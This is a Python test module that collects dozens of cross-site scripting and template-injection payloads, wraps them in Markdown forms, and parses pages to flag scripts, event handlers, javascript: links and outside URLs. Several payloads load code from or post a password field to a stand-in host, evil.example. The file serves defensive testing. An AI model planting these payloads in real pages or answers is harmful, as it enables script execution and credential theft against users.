"""Texts that would run, fetch or rearrange something, were they taken for markup; and what no page
of ours may hold, whatever people wrote."""

import re
from html.parser import HTMLParser

# Each does something of its own, if it does anything.
RUNS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<IMG SRC=javascript:alert(1)>
<img src=x:x onerror=alert`1`>
<img/src/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">
<math><mtext><script>alert(1)</script></mtext></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/?q=1>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<style>@import url(//evil.example/x.css);</style>
<style>*{background:url(//evil.example/?q=1)}</style>
<div style="background:url(javascript:alert(1))">
<form action="https://evil.example"><input name=password><button>Go</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<x-evil onclick=alert(1)>x</x-evil>
<batch-card onclick=alert(1)>x</batch-card>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
` onmouseover=alert(1)
javascript:alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
{{ 7*7 }}{% include "x" %}{{ request.user.password }}
${alert(1)}#{alert(1)}<%= 7*7 %>
\u003cscript\u003ealert(1)\u003c/script\u003e
"};alert(1);//
';alert(1);//
<!--<img src="--><img src=x onerror=alert(1)//">
<p id="csrfmiddlewaretoken"><form id=preferences>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip().splitlines()
# As Markdown, which a language model's answer is.
IN_MARKDOWN = (
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "`{}`",
    "```\n{}\n```",
    "[x]({})",
    "[{}](https://a.example)",
    "![{}](https://a.example/x.png)",
    '[x](https://a.example "{}")',
    "| a |\n|---|\n| {} |",
    "[a]: {}\n\n[a]",
    "<{}>",
)
URLS = {"href", "src", "action", "formaction", "poster", "data", "srcset", "xlink:href"}
NEVER = {"iframe", "object", "embed", "base", "style", "marquee", "math", "frame", "x-evil"}
DATA = {"application/json", "application/ld+json", "importmap"}


class Reader(HTMLParser):
    """Reads a page as a browser does, near enough, and notes what has no business there."""

    def __init__(self, tags=None, hosts=()):
        super().__init__()
        self.tags, self.hosts, self.found = tags, hosts, []

    def handle_starttag(self, tag, attrs):
        named = dict(attrs)
        if tag in NEVER or (self.tags is not None and tag not in self.tags):
            self.found.append(self.get_starttag_text())
        if tag == "script" and not (named.get("src") or named.get("type") in DATA):
            self.found.append(self.get_starttag_text())
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "http-equiv"}:
                self.found.append(f"{tag} {name}={value}")
            if name in URLS and re.match(
                r"[\x00-\x20]*(javascript|vbscript|data(?!:image/(png|webp|svg)))[\t\n\r]*:",
                value or "",
                re.IGNORECASE,
            ):
                self.found.append(f"{tag} {name}={value}")
            if (
                name in URLS
                and tag != "a"
                and named.get("rel") != "canonical"
                and re.match("(https?:)?//", value or "")
            ):
                self.found.append(f"{tag} {name}={value}")


def faults(page, tags=None):
    reader = Reader(tags)
    reader.feed(page)
    reader.close()
    return reader.found
